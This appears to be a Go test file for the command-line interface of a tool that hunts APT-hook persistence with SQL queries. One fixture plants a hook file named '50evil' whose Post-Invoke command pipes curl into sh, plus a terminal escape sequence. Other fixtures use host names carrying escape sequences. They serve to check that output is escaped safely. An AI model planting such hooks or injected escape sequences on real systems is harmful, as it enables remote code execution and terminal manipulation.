package cli

import (
	"bytes"
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"testing"
	"time"

	"github.com/urfave/cli/v2"

	"github.com/pkgpersist/pkgpersist/collector/report/ecscheck"
	"github.com/pkgpersist/pkgpersist/collector/store"
)

// writeQuery writes a query file with a valid header and sql.
func writeQuery(t *testing.T, dir, id, sql string) {
	t.Helper()
	header := "-- id: " + id + "\n-- title: t\n-- description: d\n-- attack: T1546.016\n-- platform: linux\n-- interval: 3600\n-- mode: snapshot\n-- kind: detection\n"
	if err := os.WriteFile(filepath.Join(dir, id+".sql"), []byte(header+sql+"\n"), 0o644); err != nil {
		t.Fatal(err)
	}
}

func oneLine(t *testing.T, what, errs string) string {
	t.Helper()
	if strings.Count(errs, "\n") != 1 {
		t.Errorf("%s: want one line on stderr, got %q", what, errs)
	}
	return errs
}

// TestHuntRootNotADirectory: --root that is not a directory is a usage
// error before anything runs: no database is even created.
func TestHuntRootNotADirectory(t *testing.T) {
	dir := t.TempDir()
	file := filepath.Join(dir, "file")
	if err := os.WriteFile(file, nil, 0o644); err != nil {
		t.Fatal(err)
	}
	for _, root := range []string{"/nope", file} {
		db := filepath.Join(dir, "p.db")
		code, out, errs := runCLI("hunt", "--db", db, "--root", root, "--format", "json")
		errs = oneLine(t, root, errs)
		if code != 2 || out != "" || !strings.Contains(errs, "--root "+root+" is not a directory") {
			t.Errorf("--root %s: exit %d, stdout %q, stderr %q", root, code, out, errs)
		}
		if _, err := os.Stat(db); err == nil {
			t.Errorf("--root %s: the database was created before the usage error", root)
		}
	}
}

// TestHuntRefusesBadQueryFiles: a query whose SQL the engine cannot
// compile is refused before the run, naming the file and SQLite's message.
func TestHuntRefusesBadQueryFiles(t *testing.T) {
	for sql, msg := range map[string]string{
		"SELECT * FROM no_such_table":            "no such table: no_such_table",
		"SELEC hook FROM apt_hooks":              `near "SELEC": syntax error`,
		"SELECT no_such_column FROM apt_hooks":   "no such column: no_such_column",
		"SELECT hook FROM apt_hooks WHERE 1 = ":  "incomplete input",
		"SELECT * FROM file WHERE path LIKE '/%": "unrecognized token",
	} {
		dir := t.TempDir()
		writeQuery(t, dir, "good", "SELECT hook FROM apt_hooks")
		writeQuery(t, dir, "bad", sql)
		db := filepath.Join(t.TempDir(), "p.db")
		code, out, errs := runCLI("hunt", "--db", db, "--root", planted, "--queries", dir, "--format", "json")
		errs = oneLine(t, sql, errs)
		if code != 2 || out != "" || !strings.Contains(errs, filepath.Join(dir, "bad.sql")) || !strings.Contains(errs, msg) {
			t.Errorf("%q: exit %d, stdout %q, stderr %q", sql, code, out, errs)
		}
		if _, err := os.Stat(db); err == nil {
			t.Errorf("%q: the database was created before the query was refused", sql)
		}
	}
}

// TestHuntOsqueryTablesForOsquery: a table only osquery serves is no
// error where osquery runs the queries (--remote-engine osqueryi), but is
// where the embedded engine does.
func TestHuntOsqueryTablesForOsquery(t *testing.T) {
	dir := t.TempDir()
	writeQuery(t, dir, "procs", "SELECT pid, name FROM processes")
	db := filepath.Join(t.TempDir(), "p.db")
	code, _, errs := runCLI("hunt", "--db", db, "--queries", dir, "--remote-engine", "osqueryi", "--timeout", "5s", "ssh://root@127.0.0.1:1")
	if code != 1 || strings.Contains(errs, "no such table") {
		t.Errorf("osqueryi engine: exit %d, stderr %q (want the host's failure, not a refused query)", code, errs)
	}
	code, _, errs = runCLI("hunt", "--db", db, "--queries", dir, "--remote-engine", "pkgpersist", "ssh://root@127.0.0.1:1")
	if code != 2 || !strings.Contains(errs, "no such table: processes") {
		t.Errorf("pkgpersist engine: exit %d, stderr %q", code, errs)
	}
}

// TestHuntMergesDuplicateTargets: a target given twice is hunted once,
// with one line saying so.
func TestHuntMergesDuplicateTargets(t *testing.T) {
	db := filepath.Join(t.TempDir(), "p.db")
	target := "ssh://root@127.0.0.1:1"
	list := filepath.Join(t.TempDir(), "targets")
	if err := os.WriteFile(list, []byte(target+"\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	code, _, errs := runCLI("hunt", "--db", db, "--timeout", "5s", "--format", "json", "--targets", list, target, target)
	if code != 1 {
		t.Errorf("exit %d, want 1 (the host cannot be reached)", code)
	}
	if n := strings.Count(errs, "merged"); n != 1 || !strings.Contains(errs, "127.0.0.1:1 (given 3 times)") {
		t.Errorf("want one line merging the target:\n%s", errs)
	}
	if n := strings.Count(errs, "Connection refused"); n != 1 {
		t.Errorf("the host is reported %d times:\n%s", n, errs)
	}
	if !strings.Contains(errs, "1 hosts: 0 ok, 0 incomplete, 1 failed") {
		t.Errorf("summary:\n%s", errs)
	}
}

// hostileRoot is a root whose APT hook command holds an ESC (APT decodes
// %1b): on a terminal it would erase the line it is printed on.
func hostileRoot(t *testing.T) string {
	t.Helper()
	root := t.TempDir()
	d := filepath.Join(root, "etc/apt/apt.conf.d")
	if err := os.MkdirAll(d, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(d, "50evil"), []byte(`DPkg::Post-Invoke { "curl x|sh %1b[2K"; };`+"\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	return root
}

// TestDisplayEscapesControlCharacters: table and CSV show an ESC as \x1b,
// JSON keeps it, in every command that prints rows.
func TestDisplayEscapesControlCharacters(t *testing.T) {
	root := hostileRoot(t)
	sql := "SELECT command FROM apt_hooks WHERE hook = 'DPkg::Post-Invoke'"
	check := func(what string, code int, out string, exact bool) {
		t.Helper()
		if code > 1 {
			t.Errorf("%s: exit %d", what, code)
		}
		if exact {
			if !strings.Contains(out, `curl x|sh \u001b[2K`) {
				t.Errorf("%s: JSON does not keep the exact value: %q", what, out)
			}
			return
		}
		if strings.ContainsRune(out, 0x1b) || !strings.Contains(out, `curl x|sh \x1b[2K`) {
			t.Errorf("%s: %q", what, out)
		}
	}
	for _, f := range []string{"table", "csv", "json", "ndjson"} {
		code, out, _ := runCLI("query", "--root", root, "--format", f, sql)
		check("query --format "+f, code, out, f == "json" || f == "ndjson")
	}
	db := filepath.Join(t.TempDir(), "p.db")
	for _, f := range []string{"table", "csv", "json"} {
		code, out, _ := runCLI("hunt", "--db", db, "--root", root, "--format", f)
		check("hunt --format "+f, code, out, f == "json")
	}
	code, out, _ := runCLI("diff", "--db", db, "--run", "1", "--format", "table")
	check("diff --format table", code, out, false)
	code, out, _ = runCLI("diff", "--db", db, "--run", "1", "--format", "ndjson", "--ecs")
	check("diff --format ndjson --ecs", code, out, true)
	ecscheck.Check(t, []byte(out))
}

// TestHostsEscapesControlCharacters: what an enrolling osqueryd says
// about itself is shown escaped.
func TestHostsEscapesControlCharacters(t *testing.T) {
	db := filepath.Join(t.TempDir(), "p.db")
	st, err := store.Open(db)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := st.EnrollNode(context.Background(), store.Enrollment{Identifier: "web1\x1b]0;owned\x07", Details: json.RawMessage("{}"), OsqueryVersion: "5.12\u009b2J", KeyHash: store.KeyHash("k"), At: time.Now()}); err != nil {
		t.Fatal(err)
	}
	st.Close()
	code, out, errs := runCLI("hosts", "--db", db)
	if code != 0 {
		t.Fatalf("hosts: exit %d: %s", code, errs)
	}
	if bytes.ContainsAny([]byte(out), "\x1b\x07") || strings.ContainsRune(out, 0x9b) ||
		!strings.Contains(out, `web1\x1b]0;owned\x07`) || !strings.Contains(out, `5.12\u009b2J`) {
		t.Errorf("hosts: %q", out)
	}
}

// TestEnrolledHostsExactly: --hosts X picks X alone, not X and every host
// that sorts after it.
func TestEnrolledHostsExactly(t *testing.T) {
	st, err := store.Open(filepath.Join(t.TempDir(), "p.db"))
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	for _, h := range []string{"a", "b", "c", "d"} {
		if _, err := st.EnrollNode(context.Background(), store.Enrollment{Identifier: h, Details: json.RawMessage("{}"), OsqueryVersion: "5.12.1", KeyHash: store.KeyHash("k-" + h), At: time.Now()}); err != nil {
			t.Fatal(err)
		}
	}
	c := cli.NewContext(cli.NewApp(), nil, nil)
	c.Context = context.Background()
	for _, pick := range [][]string{{"b"}, {"a"}, {"c", "a"}, {"d"}} {
		ts, err := enrolledTargets(c, st, pick)
		if err != nil {
			t.Fatal(err)
		}
		var got []string
		for _, tg := range ts {
			got = append(got, strings.TrimPrefix(tg.Name(), "enrolled:"))
		}
		want := append([]string{}, pick...)
		sort.Strings(want)
		if strings.Join(got, ",") != strings.Join(want, ",") {
			t.Errorf("--hosts %s hunts %v", strings.Join(pick, ","), got)
		}
	}
}
